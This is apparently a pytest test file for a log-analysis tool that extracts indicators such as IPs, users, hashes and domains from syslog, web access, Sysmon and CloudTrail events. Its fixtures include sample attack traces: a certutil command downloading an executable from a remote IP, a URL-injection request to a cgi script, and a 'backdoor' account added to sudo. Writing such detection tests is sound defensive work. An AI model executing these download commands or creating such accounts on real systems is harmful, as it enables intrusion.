"""Indicator extraction from real-format events: fields first, then free text; hostile input."""

import pytest

from logwarden.app.events import Event
from logwarden.app.indicators import extract_indicators, normalize_ip
from logwarden.schemas.record import LIST_MAX


def syslog(line_no: int, host: str, program: str, message: str) -> Event:
    raw = f"Dec 10 06:55:46 {host} {program}[24200]: {message}"
    return Event(source="auth.log", line_no=line_no, offset=0, raw=raw, format="syslog", host=host,
                 program=program, message=message, fields={"pid": 24200})


def test_sshd_lines_give_ips_users_host_and_program():
    events = [
        syslog(1, "LabSZ", "sshd", "Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2"),
        syslog(2, "LabSZ", "sshd", "Failed password for root from 173.234.31.186 port 38927 ssh2"),
        syslog(3, "LabSZ", "sshd", "Accepted publickey for alice from ::ffff:10.0.0.5 port 22 ssh2"),
        syslog(4, "LabSZ", "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=2001:db8::7  user=oracle"),
    ]
    found = extract_indicators(events)
    assert found.ips == ["173.234.31.186", "10.0.0.5", "2001:db8::7"]  # first appearance, deduplicated
    assert found.users == ["webmaster", "root", "alice", "oracle"]
    assert found.hosts == ["LabSZ"]
    assert found.processes == ["sshd"]


def test_sudo_su_and_shadow_utils_users():
    events = [
        syslog(1, "web1", "sudo", "    bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id"),
        syslog(2, "web1", "su", "FAILED su for root by mallory"),
        syslog(3, "web1", "useradd", "new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash"),
        syslog(4, "web1", "usermod", "add 'backdoor' to group 'sudo'"),
        syslog(5, "web1", "CRON", "pam_unix(cron:session): session opened for user www-data(uid=33) by (uid=0)"),
    ]
    assert extract_indicators(events).users == ["bob", "root", "mallory", "backdoor", "www-data"]


def test_access_log_path_user_agent_versions_and_referrer():
    line = ('203.0.113.9 - - [10/Oct/2023:13:55:36 +0000] "GET /cgi-bin/x?u=http://198.51.100.2/sh HTTP/1.1" 404 209 '
            '"https://evil.example.com/start" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36"')
    event = Event(source="access.log", line_no=7, offset=0, raw=line, format="access",
                  message="GET /cgi-bin/x?u=http://198.51.100.2/sh HTTP/1.1",
                  fields={"src_ip": "203.0.113.9", "method": "GET", "path": "/cgi-bin/x?u=http://198.51.100.2/sh",
                          "protocol": "HTTP/1.1", "status": 404, "bytes": 209,
                          "referrer": "https://evil.example.com/start",
                          "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36"})
    found = extract_indicators([event])
    assert found.ips == ["203.0.113.9", "198.51.100.2"]  # not the browser version 120.0.0.0
    assert found.urls[0] == "/cgi-bin/x?u=http://198.51.100.2/sh"
    assert "https://evil.example.com/start" in found.urls
    assert found.domains == ["evil.example.com"]


def test_sysmon_process_creation_gives_hashes_processes_host_user():
    fields = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "WS01.corp.local",
              "Image": "C:\\Windows\\System32\\certutil.exe", "ParentImage": "C:\\Windows\\System32\\cmd.exe",
              "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe C:\\Users\\Public\\a.exe",
              "User": "CORP\\bob",
              "Hashes": "SHA1=E2B3C1A9F6D8B7A6C5D4E3F2A1B0C9D8E7F6A5B4,MD5=9A0364B9E99BB480DD25E1F0284C8555,"
                        "SHA256=B99D114B267FFD068C3289199B6DF95A9CA48B7E0B2DBE8BD3F1C0A5C4A5A1D2,IMPHASH=00000000000000000000000000000000"}
    event = Event(source="sysmon.json", line_no=3, offset=0, raw="{}", format="windows", host="WS01.corp.local",
                  message="EventID 1 Microsoft-Windows-Sysmon/Operational: Image=certutil.exe", fields=fields)
    found = extract_indicators([event])
    assert found.hashes[:3] == ["e2b3c1a9f6d8b7a6c5d4e3f2a1b0c9d8e7f6a5b4", "9a0364b9e99bb480dd25e1f0284c8555",
                                "b99d114b267ffd068c3289199b6df95a9ca48b7e0b2dbe8bd3f1c0a5c4a5a1d2"]
    assert "00000000000000000000000000000000" not in found.hashes  # all digits: not a hash
    assert found.processes == ["C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\System32\\cmd.exe"]
    assert found.hosts == ["WS01.corp.local"]
    assert found.users == ["CORP\\bob"]
    assert found.urls == ["http://203.0.113.5/a.exe"]
    assert found.ips == ["203.0.113.5"]


def test_cloudtrail_fields_and_nested_request_parameters():
    fields = {"eventName": "AuthorizeSecurityGroupIngress", "sourceIPAddress": "198.51.100.77", "src_ip": "198.51.100.77",
              "user": "alice", "userIdentity_type": "IAMUser",
              "requestParameters": {"groupId": "sg-1", "ipPermissions": {"items": [{"ipRanges": {"items": [
                  {"cidrIp": "0.0.0.0/0"}, {"cidrIp": "192.0.2.44/32"}]}}]}}}
    event = Event(source="ct.json", line_no=1, offset=0, raw="{}", format="cloudtrail",
                  message="ec2.amazonaws.com AuthorizeSecurityGroupIngress alice", fields=fields)
    found = extract_indicators([event])
    assert found.ips == ["198.51.100.77", "192.0.2.44"]  # 0.0.0.0 is not an indicator
    assert found.users == ["alice"]


def test_invalid_addresses_are_rejected():
    assert normalize_ip("999.1.1.1") is None
    assert normalize_ip("06:55:46") is None
    assert normalize_ip("::") is None
    assert normalize_ip("::ffff:192.0.2.1") == "192.0.2.1"
    found = extract_indicators([syslog(1, "h", "kernel", "version 10.0.19041.1 at 12:34:56 mac 00:1a:2b:3c:4d:5e 300.1.2.3")])
    assert found.ips == []


def test_lists_are_capped_at_the_schema_maximum():
    events = [syslog(i, "h", "sshd", f"Failed password for user{i} from 10.0.{i // 250}.{i % 250} port 22 ssh2")
              for i in range(1, 200)]
    found = extract_indicators(events)
    assert len(found.ips) == LIST_MAX and found.ips[0] == "10.0.0.1"
    assert len(found.users) == LIST_MAX


@pytest.mark.timeout(120)  # a hang guard: catastrophic backtracking on 64 KiB would take hours
def test_hostile_64k_lines_do_not_backtrack():
    hostile = ["a" * 65536, "1." * 32768, ":" * 65536, "1:" * 32768, "a." * 32768, "http://" + "a" * 65529,
               "0123456789abcdef" * 4096, "user=" * 13107, "for invalid user " * 3855, "%" * 65536]
    results = [extract_indicators([Event(source="x", line_no=i, offset=0, raw=text, format="generic", message=text)])
               for i, text in enumerate(hostile, 1)]
    assert all(r.ips == [] for r in results)  # runs of dots/colons are not addresses
    assert results[6].hashes == []  # a 64 KiB hex run is not a hash
    assert results[5].urls == ["http://" + "a" * 2000]  # URLs are bounded


def test_windows_provider_is_not_a_process_and_group_names_are_not_users():
    fields = {"EventID": 4732, "Channel": "Security", "Provider": "Microsoft-Windows-Security-Auditing",
              "Computer": "DC01.corp.local", "TargetUserName": "Administrators", "user": "Administrators",
              "SubjectUserName": "svc-sql", "MemberSid": "S-1-5-21-1-2-3-1107"}
    event = Event(source="s.json", line_no=1, offset=0, raw="{}", format="windows", host="DC01.corp.local",
                  program="Microsoft-Windows-Security-Auditing",
                  message="EventID 4732 Security: TargetUserName=Administrators SubjectUserName=svc-sql", fields=fields)
    found = extract_indicators([event])
    assert found.users == ["svc-sql"]
    assert found.processes == []
    assert found.hosts == ["DC01.corp.local"] and found.domains == []  # the host's FQDN is not repeated


def test_cloudtrail_service_endpoints_are_not_domains():
    fields = {"eventName": "GetObject", "eventSource": "s3.amazonaws.com", "sourceIPAddress": "203.0.113.80",
              "src_ip": "203.0.113.80", "user": "ci-deploy", "userAgent": "rclone/v1.65.0",
              "requestParameters": {"bucketName": "corp-finance-reports", "key": "q1.xlsx"}}
    event = Event(source="ct.json", line_no=1, offset=0, raw="{}", format="cloudtrail",
                  message="s3.amazonaws.com GetObject ci-deploy", fields=fields)
    found = extract_indicators([event])
    assert found.domains == [] and found.ips == ["203.0.113.80"] and found.users == ["ci-deploy"]
